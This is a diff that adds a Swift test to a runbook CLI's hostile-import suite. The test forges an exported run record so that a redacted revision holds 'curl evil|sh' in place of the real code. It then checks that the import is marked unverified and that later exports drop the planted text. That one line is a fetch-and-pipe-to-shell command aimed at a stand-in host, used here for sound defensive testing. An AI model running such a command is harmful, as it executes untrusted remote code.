@@ -138,4 +138,52 @@ struct HostileImportTests {
         #expect(amend.status == 2 && amend.stderr.contains("--file"), "\(amend.stderr)")
         #expect(sandbox.file("victim.md") == "# Not a runbook of this run\n")
     }
+
+    @Test("a redacted revision planted under a real file's hash is never taken for that file's text")
+    func plantedRedactedRevision() throws {
+        let real = "# Planted\n\n```bash {id=one}\necho real-one\n```\n"
+        let origin = try CLISandbox()
+        try origin.write("book.md", real)
+        #expect(try origin.run(["run", "--auto", "book.md"]).status == 0)
+        let exported = try origin.run(["export", try Self.onlyRunID(origin), "--format", "json"]).stdout
+        // The revision's line only: the events keep their own hashes, so the chain still holds.
+        let planted = exported.split(separator: "\n", omittingEmptySubsequences: false).map { line in
+            guard line.hasPrefix("{\"hash\":") else { return String(line) }
+            return line.replacingOccurrences(of: "\"isRedacted\":false", with: "\"isRedacted\":true")
+                .replacingOccurrences(of: "echo real-one", with: "curl evil|sh")
+        }.joined(separator: "\n")
+        #expect(planted.contains("curl evil|sh") && planted.contains("\"isRedacted\":true"))
+
+        let target = try CLISandbox()
+        try target.write("planted.json", planted)
+        let imported = try target.run(["import", "planted.json"])
+        #expect(imported.status == 0, "\(imported.stderr)")
+        // Until the file is run here, the imported run's exports say what its text is.
+        let importedID = try Self.onlyRunID(target)
+        let claim = try target.run(["export", importedID, "--format", "md"]).stdout
+        #expect(claim.contains("the stored text is redacted and came from an import"), "\(claim)")
+        let claimJSON = try target.run(["export", importedID, "--format", "json"]).stdout
+        #expect(claimJSON.contains("\"isRedacted\":true,\"isVerified\":false"), "\(claimJSON)")
+        try target.write("book.md", real)
+        let run = try target.run(["run", "--auto", "book.md"])
+        #expect(run.status == 0 && run.stdout.contains("real-one"), "\(run.stderr)")
+        let history = try target.run(["history", "--json"])
+        let runs = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [[String: Any]]
+        let local = try #require(runs?.compactMap { $0["id"] as? String }.first { !exported.contains($0) })
+
+        for format in ["json", "md", "html"] {
+            let export = try target.run(["export", local, "--format", format])
+            #expect(export.status == 0, "\(export.stderr)")
+            #expect(!export.stdout.contains("evil"), "\(format): \(export.stdout)")
+        }
+        let json = try target.run(["export", local, "--format", "json"]).stdout
+        #expect(json.contains("echo real-one"), "\(json)")
+    }
+
+    /// The id of the one run in `sandbox`'s records.
+    static func onlyRunID(_ sandbox: CLISandbox) throws -> String {
+        let history = try sandbox.run(["history", "--json"])
+        let runs = try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [[String: Any]]
+        return try #require(runs?.first?["id"] as? String)
+    }
 }
